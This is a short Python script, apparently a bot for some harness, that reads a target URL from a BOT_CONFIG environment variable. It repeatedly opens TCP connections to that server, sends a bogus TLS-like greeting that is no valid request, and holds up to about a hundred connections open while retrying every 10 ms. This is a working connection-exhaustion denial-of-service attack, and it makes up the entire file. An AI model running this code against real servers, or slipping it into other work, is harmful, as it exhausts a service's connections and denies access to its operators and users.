# Sends what is no request, and leaves the connections open.
import json
import os
import socket
import time
from urllib.parse import urlsplit

at = urlsplit(json.loads(os.environ["BOT_CONFIG"])["url"])
kept = []
while True:
    try:
        one = socket.create_connection((at.hostname, at.port))
        one.sendall(b"\x16\x03\x01 HELLO\r\n\r\n")
        kept = [*kept[-100:], one]
    except OSError:
        time.sleep(0.01)
